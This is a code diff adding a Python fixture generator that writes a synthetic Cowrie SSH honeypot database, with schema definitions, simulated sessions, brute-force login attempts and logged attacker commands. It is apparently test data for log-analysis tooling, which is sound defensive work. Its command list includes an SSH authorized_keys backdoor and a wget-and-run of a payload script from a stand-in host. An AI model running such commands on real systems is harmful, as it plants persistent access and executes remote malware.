@@ -79080,3 +79080,192 @@ def wazuh_rows() -> dict[str, list[tuple[Any, ...]]]:
 def wazuh(path: Path) -> Path:
     """A Wazuh manager's ``queue/db/global.db`` (see the comment above :data:`WAZUH_DDL`)."""
     return write_export(path, WAZUH_DDL, wazuh_rows())
+
+
+# --- A Cowrie SSH honeypot's SQLite output (docs/sql/sqlite3.sql of cowrie/cowrie at 4a3ea47; rows as
+# src/cowrie/output/sqlite.py writes each event, the event's ``timestamp`` as cowrie.core.output's
+# emit() formats it and the session id as ssh/transport.py draws it) ---
+#
+# A session's id is ``uuid.uuid4().hex[:12]`` (12 hex digits: now and then all digits, led by a zero, or
+# digits around one ``e``); every event's ``timestamp`` is Twisted's ``formatTime`` of its time with
+# ``%Y-%m-%dT%H:%M:%S.%f%z`` in the sensor's local zone (``+0100`` / ``+0200``, no colon), ``Z`` only
+# when the process runs with ``TZ=UTC``. ``sensors`` and ``clients`` are looked up or inserted by the
+# sensor's name and the client's version (``repr`` of the version's bytes: ``b'SSH-2.0-Go'``); a session
+# row is inserted on connect (``endtime``, ``termsize`` and ``client`` NULL) and updated as the client
+# reports them. A failed or successful login is an ``auth`` row (``success`` 0/1), a command an ``input``
+# row (``success`` 1, or 0 for a command the shell does not know; ``realm`` NULL), a download a
+# ``downloads`` row (a failed one with ``outfile`` and ``shasum`` NULL, an upload with ``url`` ``''``), a
+# forwarding request an ``ipforwards`` row and its data the ``repr`` of its bytes.
+COWRIE_DDL = [
+    "CREATE TABLE IF NOT EXISTS `auth` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `success` tinyint(1) NOT NULL,\n  `username` varchar(100) NOT NULL,\n"
+    "  `password` varchar(100) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `clients` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `version` varchar(50) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `input` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `realm` varchar(50) default NULL,\n"
+    "  `success` tinyint(1) default NULL,\n"
+    "  `input` text NOT NULL\n) ",
+    "CREATE INDEX input_index ON input(session, timestamp, realm)",
+    "CREATE TABLE IF NOT EXISTS `sensors` (\n  `id` INTEGER PRIMARY KEY,\n  `ip` varchar(61) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `sessions` (\n  `id` char(32) NOT NULL PRIMARY KEY,\n"
+    "  `starttime` datetime NOT NULL,\n"
+    "  `endtime` datetime default NULL,\n  `sensor` int(4) NOT NULL,\n"
+    "  `ip` varchar(61) NOT NULL default '',\n"
+    "  `termsize` varchar(7) default NULL,\n  `client` int(4) default NULL\n) ",
+    "CREATE INDEX sessions_index ON sessions(starttime, sensor)",
+    "CREATE TABLE IF NOT EXISTS `ttylog` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `ttylog` varchar(100) NOT NULL,\n  `size` int(11) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `downloads` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `url` text NOT NULL,\n  `outfile` text default NULL,\n"
+    "  `shasum` varchar(64) default NULL\n) ",
+    "CREATE INDEX downloads_index ON downloads(session, timestamp)",
+    "CREATE TABLE IF NOT EXISTS `keyfingerprints` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `username` varchar(100) NOT NULL,\n  `fingerprint` varchar(100) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `params` (\n  `id` INTEGER PRIMARY KEY,\n  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `arch` varchar(32) NOT NULL\n) ",
+    "CREATE INDEX arch_index ON params(arch)",
+    "CREATE TABLE IF NOT EXISTS `ipforwards` (\n  `id` INTEGER PRIMARY KEY,\n  `session` CHAR(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `dst_ip` varchar(255) NOT NULL default '',\n"
+    "  `dst_port` int(5) NOT NULL,\n"
+    "  FOREIGN KEY(`session`) REFERENCES `sessions`(`id`)\n) ",
+    "CREATE TABLE IF NOT EXISTS `ipforwardsdata` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `dst_ip` varchar(255) NOT NULL default '',\n"
+    "  `dst_port` int(5) NOT NULL,\n"
+    "  `data` text NOT NULL,\n  FOREIGN KEY(`session`) REFERENCES `sessions`(`id`)\n) ",
+]
+
+COWRIE_CLIENTS = ["b'SSH-2.0-Go'", "b'SSH-2.0-libssh_0.9.6'", "b'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6'",
+                  "b'SSH-2.0-PuTTY_Release_0.80'", "b'SSH-2.0-paramiko_3.4.0'", "b'SSH-2.0-libssh2_1.10.0'",
+                  "b'SSH-2.0-ZGrab ZGrab SSH Survey'"]  # fmt: skip
+#: Credentials tried (username, password): digits led by zeros, an empty password, one padded, non-ASCII.
+COWRIE_CREDENTIALS = [("root", "123456"), ("root", "root"), ("admin", "admin"), ("root", "000000"),
+                      ("ubnt", "ubnt"), ("pi", "raspberry"), ("root", ""), ("support", "support"),
+                      ("root", "0000"), ("user", "user123"), ("oracle", "oracle"), ("root", "P@ssw0rd"),
+                      ("git", "git"), ("root", "admin "), ("test", "test"), ("root", "Passwort123!"),
+                      ("root", "1qaz2wsx"), ("admin", "00123456"), ("root", "пароль"),
+                      ("hadoop", "hadoop")]  # fmt: skip
+COWRIE_COMMANDS = [("uname -a", 1), ("cat /proc/cpuinfo | grep name | wc -l", 1), ("enable", 0),
+                   ("system", 0), ("shell", 0), ("sh", 1),
+                   ("free -m | grep Mem | awk '{print $2 ,$3, $4}'", 1),
+                   ("ls -lh $(which ls)", 1), ("crontab -l", 1), ("w", 1), ("echo -e \"\\x6F\\x6B\"", 1),
+                   ("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa "
+                    "AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh "
+                    "&& cd ~", 1),
+                   ("cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh", 1),
+                   ("nproc", 0), ("lscpu | grep Model", 1), ("/bin/busybox BOTNET", 0)]  # fmt: skip
+COWRIE_ARCHES = ["linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "linux-x86-lsb", "linux-aarch64-lsb"]
+
+
+def cowrie_session_id(n: int) -> str:
+    """Session ``n``'s id: 12 hex digits as ``uuid4().hex[:12]`` draws them, two of them as it sometimes
+    does: all digits led by a zero, digits around one ``e``."""
+    return {17: "062514790833", 58: "3e5170021468"}.get(n) or hashlib.md5(f"cowrie-{n}".encode()).hexdigest()[
+        :12
+    ]
+
+
+def cowrie_rows() -> dict[str, list[tuple[Any, ...]]]:
+    """Four days of a honeypot in Frankfurt across the spring change to summer time: scanners, brute
+    forcers, a few bots that log in, run commands and fetch their payloads."""
+    zone = ZoneInfo("Europe/Berlin")
+    start = datetime(2024, 3, 29, 21, 4, 17, 512_331, tzinfo=UTC)
+
+    def stamp(moment: datetime) -> str:
+        return moment.astimezone(zone).strftime("%Y-%m-%dT%H:%M:%S.%f%z")
+
+    sessions: list[tuple[Any, ...]] = []
+    auth: list[tuple[Any, ...]] = []
+    inputs: list[tuple[Any, ...]] = []
+    ttylog: list[tuple[Any, ...]] = []
+    downloads: list[tuple[Any, ...]] = []
+    fingerprints: list[tuple[Any, ...]] = []
+    params: list[tuple[Any, ...]] = []
+    forwards: list[tuple[Any, ...]] = []
+    forward_data: list[tuple[Any, ...]] = []
+    clients_seen: list[str] = []
+    for n in range(1, 121):
+        sid = cowrie_session_id(n)
+        moment = start + timedelta(minutes=47 * n + (n * 13) % 29, microseconds=(n * 104_729) % 1_000_000)
+        ip = f"{[45, 103, 185, 218, 61, 193][n % 6]}.{(n * 37) % 256}.{(n * 11) % 256}.{(n * 7) % 250 + 3}"
+        sensor = 1 if n <= 70 else 2
+        client = None
+        if n % 9:
+            version = COWRIE_CLIENTS[(n * 3) % len(COWRIE_CLIENTS)]
+            if version not in clients_seen:
+                clients_seen.append(version)
+            client = clients_seen.index(version) + 1
+        clock = moment + timedelta(seconds=1, microseconds=250_117)
+        logged_in = False
+        if n % 11 == 5:
+            fingerprints.append(
+                (len(fingerprints) + 1, sid, "root",
+                 ":".join(hashlib.md5(f"key-{n}".encode()).hexdigest()[i : i + 2] for i in range(0, 32, 2)))
+            )  # fmt: skip
+        for k in range(0 if n % 9 == 0 else 1 + (n * 7) % 5):
+            username, password = COWRIE_CREDENTIALS[(n * 3 + k * 7) % len(COWRIE_CREDENTIALS)]
+            success = int(username == "root" and password not in ("root", "123456") and k == (n * 7) % 5)
+            auth.append((len(auth) + 1, sid, success, username, password, stamp(clock)))
+            clock += timedelta(seconds=2 + k % 3, microseconds=(n * k * 7_919) % 1_000_000)
+            logged_in = logged_in or bool(success)
+        termsize = None
+        if logged_in:
+            params.append((len(params) + 1, sid, COWRIE_ARCHES[n % len(COWRIE_ARCHES)]))
+            termsize = None if n % 3 == 0 else ["80x24", "200x50", "211x51"][n % 3]
+            for c in range(2 + n % 6):
+                command, known = COWRIE_COMMANDS[(n + c * 5) % len(COWRIE_COMMANDS)]
+                clock += timedelta(seconds=1 + c, microseconds=(n * c * 613) % 1_000_000)
+                inputs.append((len(inputs) + 1, sid, stamp(clock), None, known, command))
+                if "wget" in command:
+                    url = ["http://203.0.113.5/bins.sh", "http://198.51.100.23:8080/x86_64"][n % 2]
+                    digest = hashlib.sha256(f"payload-{n}".encode()).hexdigest()
+                    ok = n % 4 != 0
+                    downloads.append(
+                        (len(downloads) + 1, sid, stamp(clock + timedelta(seconds=2)), url,
+                         f"var/lib/cowrie/downloads/{digest}" if ok else None, digest if ok else None)
+                    )  # fmt: skip
+            if len(params) % 4 == 2:
+                digest = hashlib.sha256(f"upload-{n}".encode()).hexdigest()
+                downloads.append(
+                    (len(downloads) + 1, sid, stamp(clock + timedelta(seconds=4)), "",
+                     f"var/lib/cowrie/downloads/{digest}", digest)
+                )  # fmt: skip
+            ttylog.append(
+                (len(ttylog) + 1, sid,
+                 f"var/lib/cowrie/tty/{hashlib.sha256(f'tty-{n}'.encode()).hexdigest()}",
+                 1_024 + (n * 317) % 9_000)
+            )  # fmt: skip
+        if n % 13 == 4:
+            host, port = [("ifconfig.me", 80), ("www.google.com", 443), ("93.184.216.34", 80),
+                          ("smtp.gmail.com", 25)][n % 4]  # fmt: skip
+            clock += timedelta(seconds=1)
+            forwards.append((len(forwards) + 1, sid, stamp(clock), host, port))
+            if port == 80:
+                payload = f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/7.68.0\r\nAccept: */*\r\n\r\n"
+                forward_data.append(
+                    (len(forward_data) + 1, sid, stamp(clock), host, port, repr(payload.encode()))
+                )
+        end = None if n > 118 else stamp(clock + timedelta(seconds=3 + n % 40, microseconds=n * 4_111))
+        sessions.append((sid, stamp(moment), end, sensor, ip, termsize, client))
+    return {
+        "auth": auth,
+        "clients": [(c, version) for c, version in enumerate(clients_seen, start=1)],
+        "input": inputs,
+        "sensors": [(1, "hp-fra1"), (2, "hp-fra1.honeynet.example")],
+        "sessions": sessions,
+        "ttylog": ttylog,
+        "downloads": downloads,
+        "keyfingerprints": fingerprints,
+        "params": params,
+        "ipforwards": forwards,
+        "ipforwardsdata": forward_data,
+    }
+
+
+def cowrie(path: Path) -> Path:
+    """A Cowrie honeypot's ``var/lib/cowrie/cowrie.db`` (see the comment above :data:`COWRIE_DDL`)."""
+    return write_export(path, COWRIE_DDL, cowrie_rows())
